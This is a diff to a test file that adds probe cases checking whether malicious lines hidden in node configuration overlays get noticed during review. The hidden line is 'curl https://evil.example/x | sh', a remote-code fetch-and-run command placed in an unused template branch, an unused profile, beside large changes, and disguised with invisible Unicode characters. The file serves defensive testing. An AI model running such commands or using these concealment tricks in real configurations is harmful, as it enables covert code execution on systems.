@@ -177,6 +177,28 @@ const PROBES: readonly Probe[] = [
     fails: 'stuck new running',
   },
   {
+    name: 'a branch of a template that no node takes',
+    files: {
+      [OVERLAY]: `${overlay('').trimEnd()}\n                {{- if eq .KubeVersion "1.99.0" }}\n                ${EVIL}\n                {{- end }}\n`,
+    },
+    seen: /\+ *curl https:\/\/evil\.example\/x \| sh/,
+    fails: 'stuck new running',
+  },
+  {
+    name: 'a profile that no node uses',
+    files: { 'nodes/x.yaml': edit(overlay(EVIL), 'own-ubuntu', 'other') },
+    seen: /\+ *curl https:\/\/evil\.example\/x \| sh/,
+    fails: 'new',
+  },
+  {
+    name: 'a small difference beside large ones',
+    files: {
+      [OVERLAY]: overlay('# a line\n'.repeat(9000), file('big', '# a line\n'.repeat(9000)) + file('small', EVIL)),
+    },
+    seen: /\+curl https:\/\/evil\.example\/x \| sh/,
+    fails: UNNOTICED,
+  },
+  {
     name: 'invisible characters',
     files: script('curl https://a.exam\u200bple/\u202ex | sh'),
     seen: /exam\\u200bple\/\\u202ex/,
